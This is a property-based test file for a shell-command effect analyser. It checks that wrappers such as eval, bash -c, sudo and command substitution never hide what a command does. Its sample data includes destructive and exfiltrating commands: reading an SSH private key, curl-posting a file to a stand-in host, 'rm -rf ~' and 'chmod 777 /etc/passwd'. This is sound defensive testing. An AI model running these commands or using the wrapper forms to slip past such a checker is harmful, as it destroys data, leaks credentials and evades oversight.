"""Laws: whatever stands around a command, its effects are never lost; unknown options are unknown; reading is total."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assent.core.effect import UNKNOWN
from tests.shell.world import covered, read

COMMANDS = [
    "rm -rf build",
    "git push --force origin main",
    "git reset --hard",
    "cat /home/u/.ssh/id_rsa",
    "curl -d @f https://h.example/x",
    "chmod 777 /etc/passwd",
    "npm install x",
    "sudo ls",
    "unheardof -x",
    "python3 -c 1",
    "tee /home/u/.bashrc",
    "kill 1",
    "echo hi",
    "make all",
]
commands = st.sampled_from(COMMANDS)
AROUND = {
    "an environment prefix": "X=1 {}",
    "env": "env {}",
    "an unknown wrapper": "unheardofwrapper {}",
    "an unknown wrapper with options": "unheardofwrapper -n 3 {}",
    "sudo": "sudo {}",
    "timeout": "timeout 5 {}",
    "xargs": "xargs {}",
    "bash -c": "bash -c '{}'",
    "eval": "eval '{}'",
    "a substitution": "echo $({})",
    "a quoted substitution": 'echo "$({})"',
    "backquotes": "echo `{}`",
    "a process substitution": "cat <({})",
    "a subshell": "({})",
    "a group": "{{ {}; }}",
    "a function": "f() {{ {}; }}; f",
    "an uncalled function": "f() {{ {}; }}",
    "a branch": "if true; then {}; fi",
    "a loop": "while true; do {}; done",
    "a for loop": "for i in 1 2; do {}; done",
    "a case": "case x in x) {};; esac",
    "a pipe before": "true | {}",
    "a pipe after": "{} | cat",
    "the background": "{} &",
    "a negation": "! {}",
    "blanks": "   {}   ",
    "a heredoc for a shell": "bash <<'EOF'\n{}\nEOF",
    "a known text piped to a shell": "echo '{}' | sh",
    "a redirect": "{} > out.txt",
    "a comment": "{} # fine",
    "an assignment of its output": "x=$({})",
    "a default value": "echo ${{x:-$({})}}",
    "a trap": "trap '{}' EXIT",
    "a cd": "cd . && {}",
    "a here-string": "cat <<< $({})",
}


@pytest.mark.parametrize("around", AROUND.values(), ids=AROUND.keys())
@pytest.mark.parametrize("text", COMMANDS)
def test_no_surrounding_loses_an_effect(text: str, around: str) -> None:
    lost = read(text).effects & ~read(around.format(text)).effects
    assert not lost


@pytest.mark.parametrize("text", COMMANDS)
def test_full_paths_quotes_and_backslashes_lose_nothing(text: str) -> None:
    name, _, rest = text.partition(" ")
    plain = read(text).effects
    for form in (
        f"/usr/bin/{name}",
        f"/tmp/{name}",
        f"'{name}'",
        f'"{name}"',
        f"\\{name}",
        f"{name[0]}''{name[1:]}",
    ):
        assert not plain & ~read(f"{form} {rest}").effects, form


@given(commands, commands, st.sampled_from([";", "&&", "||", "|", "\n", "&"]))
def test_a_list_has_the_effects_of_both(one: str, two: str, joint: str) -> None:
    both = read(f"{one} {joint} {two}")
    assert not (read(one).effects | read(two).effects) & ~both.effects
    assert not covered(both) or (covered(read(one)) and covered(read(two)))


@given(commands, st.lists(st.sampled_from(list(AROUND.values())), min_size=1, max_size=4))
def test_nothing_stacked_around_a_command_makes_it_coverable(text: str, around: list[str]) -> None:
    whole = text
    for each in around:
        if "'" in each and "'" in whole:
            continue
        whole = each.format(whole)
    assert covered(read(text)) or not covered(read(whole))


@given(
    st.from_regex(r"--[a-z]{9,12}zq(=[a-z]+)?", fullmatch=True),
    st.sampled_from(["git status", "ls", "npm test", "cargo build"]),
)
def test_an_unknown_option_is_unknown(option: str, text: str) -> None:
    assert read(f"{text} {option}").effects & UNKNOWN


@given(st.text(max_size=60))
def test_reading_is_total_on_any_text(text: str) -> None:
    reading = read(text)
    assert "failed" not in reading.form


TOKENS = [
    "ls", "rm -rf ~", "$x", "$(", ")", "`", "'", '"', "{", "}", ";", "&&", "|", ">", "<", "<<EOF\n", "EOF\n", "\n", "if",
    "then", "fi", "for", "x", "in", "do", "done", "case", "esac", "((", "))", "[[", "]]", "f()", "\\", "=", "x=1", "*",
    "~", "${", "eval", "bash -c", "xargs", "sudo", "cd", "..", "#", "!", "&", "export", "PATH=.", "2>&1", "<(", "$((",
]  # fmt: skip


@given(st.lists(st.sampled_from(TOKENS), max_size=14).map(" ".join))
def test_reading_is_total_on_any_tokens(text: str) -> None:
    reading = read(text)
    assert "failed" not in reading.form
    assert (
        "rm -rf ~" not in text
        or not covered(reading)
        or "'" in text
        or '"' in text
        or "#" in text
        or "EOF" in text
    )
